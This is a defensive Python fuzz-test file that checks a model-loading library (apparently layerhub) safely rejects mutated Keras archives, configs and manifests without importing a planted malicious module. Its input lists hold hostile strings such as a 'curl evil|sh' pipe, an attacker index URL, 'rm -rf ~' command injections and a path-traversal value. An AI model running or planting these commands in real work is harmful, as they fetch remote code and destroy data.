"""A model file is untrusted input: mutated archives either load or raise a one-line LayerHubError.

Real models (Scale, PAM) are saved once; hypothesis mutates their archive bytes, their config.json
and their metadata.json / layerhub manifest, and ``layerhub.load_model`` must either return a
model or raise a ``LayerHubError`` whose message is one bounded line, and must never import a
module the file names (an importable ``evil_mod`` package is on ``sys.path`` the whole time).

The default run is bounded and reproducible (``derandomize``); ``tox -e fuzz`` runs many more
examples (``LAYERHUB_FUZZ_EXAMPLES``, 500 by default there).
"""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import _hardening as H
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from packaging.utils import canonicalize_name
from packaging.version import Version

import layerhub

_COMMON: dict[str, Any] = {
    "deadline": None,
    "derandomize": True,
    "database": None,
    "print_blob": False,
    "suppress_health_check": [HealthCheck.too_slow, HealthCheck.data_too_large],
}
# Default run: a bounded, reproducible sample, no shrinking (its time is unbounded).
settings.register_profile(
    "layerhub-hardening",
    max_examples=25,
    phases=[Phase.explicit, Phase.generate],
    **_COMMON,
)
# tox -e fuzz: many more examples, shrunk to a minimal failing file.
settings.register_profile(
    "layerhub-fuzz",
    max_examples=int(os.environ.get("LAYERHUB_FUZZ_EXAMPLES") or 500),
    **_COMMON,
)
PROFILE = settings.get_profile(
    "layerhub-fuzz" if os.environ.get("LAYERHUB_FUZZ_EXAMPLES") else "layerhub-hardening"
)

# Names that point at the importable evil_mod package, and strings that must never reach a
# message or a command unescaped.
EVIL_NAMES = [
    "evil_mod>Boom",
    "evil_mod",
    "evil_mod.Boom",
    "evil_mod>evil_mod",
    "layerhub_x;rm -rf ~>X",
    "layerhub_absent>Foo",
    "layerhub_evil_mod>Boom",
    "keras.evil_mod>Boom",
    "__import__('evil_mod')",
]
NASTY_STRINGS = [
    "line one\nline two",
    "carriage\rreturn",
    "nul\x00byte",
    "\x1b[31mred\x1b[0m",
    "para\u2028graph",
    "next\x85line",
    "layerhub-x; curl evil|sh",
    "--index-url=http://evil/ layerhub-x",
    "1.0 && rm -rf ~",
    "1.0\nrm -rf ~",
    "../../../../etc/passwd",
    "x" * 5000,
    "",
]
HUGE_INTS = [2**63, -(2**63) - 1, 2**64 + 1, 10**300, -(10**300)]

leaves = st.one_of(
    st.none(),
    st.booleans(),
    # Small ints only: a mid-sized one in a weight shape would allocate gigabytes, which is a
    # resource question, not a parsing one.
    st.integers(-64, 64),
    st.sampled_from(HUGE_INTS),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=40),
    st.sampled_from(EVIL_NAMES + NASTY_STRINGS),
)
KEYS = st.one_of(
    st.sampled_from(["class_name", "registered_name", "module", "config", "name", "layers"]),
    st.text(max_size=10),
)
json_values = st.recursive(
    leaves,
    lambda children: st.one_of(
        st.lists(children, max_size=4), st.dictionaries(KEYS, children, max_size=4)
    ),
    max_leaves=16,
)
evil_reference = st.fixed_dictionaries(
    {
        "module": st.sampled_from(["evil_mod", "evil_mod.layers", "layerhub_evil_mod"]),
        "class_name": st.sampled_from(["Boom", "evil_mod>Boom", "evil_mod.Boom", "function"]),
        "config": st.one_of(st.just({}), st.sampled_from(EVIL_NAMES)),
        "registered_name": st.sampled_from(EVIL_NAMES),
    }
)


Path_ = tuple[Any, ...]


def json_paths(tree: Any, prefix: Path_ = ()) -> Iterator[Path_]:
    yield prefix
    if isinstance(tree, dict):
        for key, value in tree.items():
            yield from json_paths(value, (*prefix, key))
    elif isinstance(tree, list):
        for index, value in enumerate(tree):
            yield from json_paths(value, (*prefix, index))


def replace_at(tree: Any, path: Path_, value: Any) -> Any:
    if not path:
        return value
    node = tree
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    return tree


@pytest.fixture(scope="module")
def evil_marker(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    root = tmp_path_factory.mktemp("evil-site")
    marker = H.write_evil_package(root)
    sys.path.insert(0, str(root))
    try:
        yield marker
    finally:
        sys.path.remove(str(root))
        H.assert_evil_not_imported(marker)


@pytest.fixture(scope="module")
def saved(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    """Each model saved once with layerhub.save_model: its bytes and its archive's members."""
    directory = tmp_path_factory.mktemp("fuzz-models")
    result = {}
    for name, build in (("scale", H.scale_model), ("pam", H.pam_model)):
        path = layerhub.save_model(build(), directory / f"{name}.keras")
        members = H.read_members(path)
        comment = H.read_comment(path)
        result[name] = {
            "bytes": path.read_bytes(),
            "members": members,
            "comment": comment,
            "config": json.loads(members["config.json"]),
            "manifest": H.manifest_of(members, comment),
        }
    return result


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("fuzz-scratch")


def check_pip_command(command: str | None) -> None:
    """None, or ``pip install`` followed only by valid names with valid ``==`` versions."""
    if command is None:
        return
    assert command.startswith("pip install "), command
    requirements = command.removeprefix("pip install ").split(" ")
    for requirement in requirements:
        name, sep, version = requirement.partition("==")
        canonicalize_name(name, validate=True)  # raises InvalidName
        assert not name.startswith("-"), command
        if sep:
            assert str(Version(version)) == version or Version(version), command


def load_and_check(path: Path, marker: Path) -> None:
    """The one property: a model, or a one-line LayerHubError; evil_mod never imported."""
    try:
        layerhub.load_model(path)
    except KeyboardInterrupt:
        raise
    except BaseException as error:  # SystemExit or RecursionError are findings too
        H.assert_one_line(error)
        if isinstance(error, layerhub.MissingPluginError):
            check_pip_command(error.pip_command)
    finally:
        H.assert_evil_not_imported(marker)


MODELS = ["scale", "pam"]

# (a) archive bytes ------------------------------------------------------------------------------


@st.composite
def byte_mutations(draw: st.DrawFn, size: int) -> list[tuple[str, int, bytes]]:
    index = st.one_of(
        st.integers(0, size - 1), st.integers(0, 300), st.integers(max(0, size - 600), size - 1)
    )
    ops = draw(
        st.lists(
            st.tuples(
                st.sampled_from(["flip", "truncate", "insert", "zero"]),
                index,
                st.binary(min_size=1, max_size=16),
            ),
            min_size=1,
            max_size=3,
        )
    )
    return ops


def apply_byte_mutations(data: bytes, ops: list[tuple[str, int, bytes]]) -> bytes:
    buffer = bytearray(data)
    for op, index, payload in ops:
        index = min(index, max(len(buffer) - 1, 0))
        if op == "flip" and buffer:
            buffer[index] ^= payload[0] or 0xFF
        elif op == "truncate":
            del buffer[index:]
        elif op == "insert":
            buffer[index:index] = payload
        elif op == "zero":
            buffer[index : index + len(payload)] = bytes(len(buffer[index : index + len(payload)]))
    return bytes(buffer)


@pytest.mark.parametrize("model", MODELS)
def test_mutated_archive_bytes(
    model: str, saved: dict[str, Any], scratch: Path, evil_marker: Path
) -> None:
    original: bytes = saved[model]["bytes"]

    @PROFILE
    @given(ops=byte_mutations(len(original)))
    def run(ops: list[tuple[str, int, bytes]]) -> None:
        path = scratch / f"bytes-{model}.keras"
        path.write_bytes(apply_byte_mutations(original, ops))
        load_and_check(path, evil_marker)

    run()


# (b) config.json --------------------------------------------------------------------------------


@pytest.mark.parametrize("model", MODELS)
def test_mutated_config(
    model: str, saved: dict[str, Any], scratch: Path, evil_marker: Path
) -> None:
    members: dict[str, bytes] = saved[model]["members"]
    comment: bytes = saved[model]["comment"]
    config_text = members["config.json"].decode()
    tree = json.loads(config_text)
    paths = list(json_paths(tree))
    # Every serialised object (layers, initializers, ...): where a reference to evil_mod goes.
    layer_paths = [
        p for p in paths if isinstance(_get(tree, p), dict) and "class_name" in _get(tree, p)
    ]

    @PROFILE
    @given(
        changes=st.lists(
            st.one_of(
                st.tuples(st.sampled_from(paths), json_values),
                st.tuples(st.sampled_from(layer_paths), evil_reference),
                st.tuples(
                    st.sampled_from(layer_paths).map(lambda p: (*p, "registered_name")),
                    st.sampled_from(EVIL_NAMES),
                ),
            ),
            min_size=1,
            max_size=3,
        )
    )
    def run(changes: list[tuple[Path_, Any]]) -> None:
        config = json.loads(config_text)
        for path_in_tree, value in changes:
            try:
                config = replace_at(config, path_in_tree, value)
            except (KeyError, IndexError, TypeError):
                continue  # an earlier change removed this node
        path = scratch / f"config-{model}.keras"
        H.write_members(path, {**members, "config.json": H.dumps(config)}, comment)
        load_and_check(path, evil_marker)

    run()


def _get(tree: Any, path: Path_) -> Any:
    for key in path:
        tree = tree[key]
    return tree


# (c) metadata.json and the layerhub manifest ----------------------------------------------------

manifest_strings = st.one_of(st.sampled_from(NASTY_STRINGS + EVIL_NAMES), st.text(max_size=30))


@pytest.mark.parametrize("model", MODELS)
def test_mutated_manifest(
    model: str, saved: dict[str, Any], scratch: Path, evil_marker: Path
) -> None:
    members: dict[str, bytes] = saved[model]["members"]
    manifest: dict[str, Any] = saved[model]["manifest"]
    (registered,) = manifest["objects"]

    @PROFILE
    @given(
        place=st.sampled_from([*H.MANIFEST_PLACES, "raw-comment"]),
        missing=st.booleans(),
        entry=st.fixed_dictionaries(
            {"distribution": st.one_of(manifest_strings, json_values)},
            optional={"version": st.one_of(manifest_strings, json_values)},
        ),
        changes=st.lists(json_values, max_size=2),
        raw=st.binary(max_size=64),
        data=st.data(),
    )
    def run(
        place: str,
        missing: bool,
        entry: dict[str, Any],
        changes: list[Any],
        raw: bytes,
        data: Any,
    ) -> None:
        config_text = members["config.json"].decode()
        name = registered
        if missing:
            # The plugin is "not installed": now the manifest is what the message is built from.
            name = "layerhub_absent>Foo"
            config_text = config_text.replace(registered, name)
        new_members = {**members, "config.json": config_text.encode()}
        if place == "raw-comment":  # the prefix, then bytes that need not be JSON or UTF-8
            new_members, _ = H.with_manifest(new_members, None, "comment")
            comment = H.COMMENT_PREFIX + raw
        else:
            new_manifest = {**json.loads(json.dumps(manifest)), "objects": {name: entry}}
            new_members, comment = H.with_manifest(new_members, new_manifest, place)
            # Then replace any node of the manifest, or of metadata.json, with random JSON.
            tree = json.loads(new_members["metadata.json"]) if place == "metadata" else new_manifest
            for value in changes:
                where = data.draw(st.sampled_from(list(json_paths(tree))))
                tree = replace_at(tree, where, value)
            if place == "metadata":
                new_members["metadata.json"] = H.dumps(tree)
            else:
                new_members, comment = H.with_manifest(new_members, tree, place)
        path = scratch / f"manifest-{model}.keras"
        H.write_members(path, new_members, comment)
        load_and_check(path, evil_marker)

    run()


# (d) .keras directories: special files and garbage in place of what Keras opens --------------

DIRECTORY_MEMBERS = ["config.json", "metadata.json", "model.weights.h5", "assets/vocabulary.txt"]
DIRECTORY_ACTIONS = ["fifo", "symlink-loop", "directory", "device", "missing", "bytes", "json"]


@pytest.fixture(scope="module")
def model_directory(saved: dict[str, dict[str, Any]], scratch: Path) -> Path:
    """The Scale model unzipped, with its manifest in metadata.json and one asset."""
    folder = scratch / "pristine-dir"
    for name, data in saved["scale"]["members"].items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    metadata = json.loads(saved["scale"]["members"]["metadata.json"])
    metadata["layerhub"] = saved["scale"]["manifest"]
    (folder / "metadata.json").write_text(json.dumps(metadata))
    (folder / "assets").mkdir(exist_ok=True)
    (folder / "assets" / "vocabulary.txt").write_text("a\nb\n")
    return folder


def apply_directory_action(folder: Path, member: str, action: str, payload: Any) -> None:
    import shutil

    path = folder / member
    if action in ("bytes", "json"):
        if path.is_file():
            original = path.read_bytes()
            if action == "bytes":
                path.write_bytes(apply_byte_mutations(original, payload) if original else b"")
            else:
                path.write_bytes(H.dumps(payload))
        return
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    elif path.exists() or path.is_symlink():
        path.unlink()
    path.parent.mkdir(parents=True, exist_ok=True)
    if action == "fifo":
        os.mkfifo(path)
    elif action == "symlink-loop":
        path.symlink_to(path.name)
    elif action == "directory":
        path.mkdir()
    elif action == "device":
        path.symlink_to("/dev/null")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
def test_mutated_model_directory(model_directory: Path, scratch: Path, evil_marker: Path) -> None:
    import shutil

    members = st.sampled_from(DIRECTORY_MEMBERS)

    @PROFILE
    @given(
        changes=st.lists(
            st.one_of(
                st.tuples(members, st.just("bytes"), byte_mutations(64)),
                st.tuples(members, st.just("json"), json_values),
                st.tuples(members, st.sampled_from(DIRECTORY_ACTIONS[:5]), st.none()),
            ),
            min_size=1,
            max_size=3,
        )
    )
    def run(changes: list[tuple[str, str, Any]]) -> None:
        folder = scratch / "mutated-dir"
        if folder.exists():
            shutil.rmtree(folder)
        shutil.copytree(model_directory, folder)
        for member, action, payload in changes:
            apply_directory_action(folder, member, action, payload)
        fifos = [p for p in folder.rglob("*") if p.is_fifo()]
        H.outcome_within(lambda: load_and_check(folder, evil_marker), 30, fifos)

    run()


# (e) Keras 2 SavedModel directories: keras_metadata.pb and the checkpoint --------------------


@pytest.fixture(scope="module")
def savedmodel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    models = H.keras2_models(tmp_path_factory.mktemp("fuzz-keras2"))
    if models is None:
        pytest.skip("tf-keras (a test dependency) is not installed")
    return models["savedmodel"]


SAVEDMODEL_FILES = ["keras_metadata.pb", "variables/variables.index"]


@pytest.mark.parametrize("member", SAVEDMODEL_FILES)
def test_mutated_savedmodel_bytes(
    savedmodel: Path, scratch: Path, evil_marker: Path, member: str
) -> None:
    import shutil

    original = (savedmodel / member).read_bytes()

    @PROFILE
    @given(ops=byte_mutations(len(original)))
    def run(ops: list[tuple[str, int, bytes]]) -> None:
        folder = scratch / "mutated-savedmodel"
        if folder.exists():
            shutil.rmtree(folder)
        shutil.copytree(savedmodel, folder)
        (folder / member).write_bytes(apply_byte_mutations(original, ops))
        load_and_check(folder, evil_marker)

    run()
